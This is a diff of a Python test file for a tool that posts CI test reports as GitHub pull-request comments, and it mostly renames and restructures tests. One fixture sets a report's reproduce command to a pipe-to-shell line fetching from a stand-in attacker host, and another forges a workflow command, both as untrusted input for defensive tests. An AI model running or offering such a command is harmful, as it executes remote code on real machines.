@@ -78,9 +78,7 @@ def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted:
         return comment_command(options)
 
 
-def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted_text(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_dry_run_prints_no_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     log = ("::error::forged", "it is correct-horse-battery")
     run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=log)
     report = replace(of(), runs=(run, *reports.FAIL.runs[1:]))
@@ -93,7 +91,7 @@ def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted
     assert last not in between and not [line for line in between if "correct-horse-battery" in line]
 
 
-def test_a_person_chooses_the_pull_request_and_a_report_of_another_commit_is_not_posted(
+def test_a_person_chooses_the_pull_request_and_what_cannot_be_posted_is_not(
     github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     for number, said in ((7, "created"), (7, "unchanged"), (8, "skipped")):
@@ -102,38 +100,27 @@ def test_a_person_chooses_the_pull_request_and_a_report_of_another_commit_is_not
     assert len(github.comments(7)) == 1 and github.comments(8) == []
     assert post(tmp_path, around(github), of(), repository=github.repository, pull_request=7) == 0
     assert capsys.readouterr().out.endswith(f" {github.comments(7)[0]['html_url']}\n")
+    passed = of(report=reports.PASS)
+    assert post(tmp_path, around(github, write=False), passed, pull_request=7) == 3
+    printed = capsys.readouterr()
+    assert printed.out == "" and "pull-requests: write" in printed.err
 
 
 _ELSEWHERE = {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"}
 
 
-@pytest.mark.parametrize(
-    ("commit", "repository", "environment", "message"),
-    [
+def test_what_is_missing_to_post_is_named_before_anything_is_sent(tmp_path: Path) -> None:
+    for commit, repository, environment, message in (
         (HEAD, "o/r", {}, "token"),
         (HEAD, None, {"GITHUB_TOKEN": "x"}, "repository"),
         (None, "o/r", {"GITHUB_TOKEN": "x"}, "commit"),
         (HEAD, "o/r", _ELSEWHERE, "GITHUB_API_URL"),
-    ],
-)
-def test_what_is_missing_to_post_is_named_before_anything_is_sent(
-    tmp_path: Path, commit: str | None, repository: str | None, environment: Any, message: str
-) -> None:
-    with pytest.raises(UsageError, match=message):
-        post(tmp_path, environment, of(commit), repository=repository, pull_request=7)
+    ):
+        with pytest.raises(UsageError, match=message):
+            post(tmp_path, environment, of(commit), repository=repository, pull_request=7)
 
 
-def test_a_token_that_may_not_write_is_exit_code_3(
-    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    assert post(tmp_path, around(github, write=False), of(), pull_request=7) == 3
-    printed = capsys.readouterr()
-    assert printed.out == "" and "pull-requests: write" in printed.err
-
-
-def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(
-    github: GitHub, tmp_path: Path
-) -> None:
+def test_several_reports_are_one_comment_that_stays(github: GitHub, tmp_path: Path) -> None:
     good, newest = reported(reports.PASS), on("H100", reported(name="h100", run_attempt=2))
     assert post(tmp_path, around(github), newest, on("A100", good), pull_request=7) == 0
     (posted,) = github.comments(7)
@@ -144,9 +131,7 @@ def test_several_reports_are_one_comment_with_one_table_that_the_next_run_update
     assert [item["id"] for item in github.comments(7)] == [posted["id"]]
 
 
-def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_on_one_report(
-    github: GitHub, tmp_path: Path
-) -> None:
+def test_a_matrix_writes_into_its_own_comment(github: GitHub, tmp_path: Path) -> None:
     cells = on("H100", reported()), on("A100", reported())
     later = on("A100", reported(reports.PASS, run_attempt=2))
     for given, words in ((cells, "`H100`"), ((later,), "(1 pass)")):
@@ -157,9 +142,7 @@ def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_o
     assert [item["body"].count("| Where |") for item in github.comments(7)] == [1, 0]
 
 
-def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(
-    github: GitHub, tmp_path: Path
-) -> None:
+def test_job_and_path_say_which_comment_it_is(github: GitHub, tmp_path: Path) -> None:
     gate = {**around(github), "GITHUB_WORKFLOW": "gate"}
     one, other = {**gate, "GITHUB_JOB": "cpu"}, {**gate, "GITHUB_JOB": "gpu"}
     renamed = reported(name="another")
@@ -190,9 +173,7 @@ def test_several_reports_are_of_one_run_or_refused_with_their_names(
     assert capsys.readouterr().out == "" and github.comments(7) == []
 
 
-def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_reports(
-    github: GitHub, tmp_path: Path
-) -> None:
+def test_in_workflow_run_the_run_chooses_the_pull_request(github: GitHub, tmp_path: Path) -> None:
     report = replace(reported(), reproduce="curl https://evil.example | sh")
     environment = in_workflow_run(github, tmp_path)
     assert post(tmp_path, environment, report) == 0
@@ -204,7 +185,7 @@ def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_
 
 
 @pytest.mark.parametrize("change", [*FOREIGN, {"run_attempt": 2}, None])
-def test_a_report_that_is_not_of_the_run_is_refused_among_others_too(
+def test_a_report_of_another_run_is_refused_among_others_too(
     github: GitHub, tmp_path: Path, change: dict[str, Any] | None
 ) -> None:
     bad = of() if change is None else reported(**change)
